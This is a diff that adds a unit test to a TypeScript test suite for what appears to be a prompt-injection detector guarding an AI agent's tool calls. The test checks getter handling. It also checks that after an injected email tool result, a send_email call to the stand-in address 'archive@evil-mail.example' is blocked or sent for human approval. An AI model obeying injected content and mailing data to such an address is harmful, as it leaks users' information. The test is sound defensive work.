@@ -262,6 +262,31 @@ describe('hooks and guardTool', () => {
     expect(d.mode).toBe('block');
   });
 
+  it('reads a host object once: a getter that throws is a typed error naming the field, and one that changes its answer is judged by the value it gave', async () => {
+    const d = new IpiDetector({ mode: 'block', env: {} });
+    const s = d.session('getters');
+    const throwing = { role: 'tool', get content(): string { throw new Error('stream closed'); } };
+    expect(() => s.observe(throwing as never)).toThrow(expect.objectContaining({ code: 'invalid-type', message: expect.stringMatching(/"observation.content" could not be read \(stream closed\)/) }));
+    const throwingCall = new Proxy({}, { get: () => { throw new Error('revoked'); } });
+    await expect(s.assess(throwingCall as never)).rejects.toMatchObject({ code: 'invalid-type', message: expect.stringMatching(/"call.name" could not be read/) });
+    expect(() => s.evaluate(throwingCall as never)).toThrow(ParapetTypeError);
+    // A string for the check, then something else: the session keeps what was checked.
+    let reads = 0;
+    const shifting = { role: 'tool', toolName: 'read_email', get content(): unknown { return reads++ === 0 ? INJECTED : 42; } };
+    s.observe(shifting as never);
+    expect(reads).toBe(1);
+    const risk = await s.assess({ name: 'send_email', arguments: { to: 'archive@evil-mail.example', body: 'log' } });
+    expect(risk.action).toBe('block');
+    // The approver is handed the host's own object, with the fields the host keeps on it.
+    const seen: unknown[] = [];
+    const hil = new IpiDetector({ mode: 'hil', env: {}, onApproval: (_risk, c) => (seen.push(c), true) });
+    const h = hil.session('getters');
+    h.observe({ role: 'tool', toolName: 'read_email', content: INJECTED });
+    const hostCall = { name: 'send_email', arguments: { to: 'archive@evil-mail.example', body: 'log' }, id: 'call-7' };
+    await h.assess(hostCall);
+    expect(seen).toEqual([hostCall]);
+  });
+
   it('guardTool refuses before the tool runs and observes what the tool returns', async () => {
     const d = new IpiDetector({ mode: 'block', env: {} });
     const session = d.session('g');
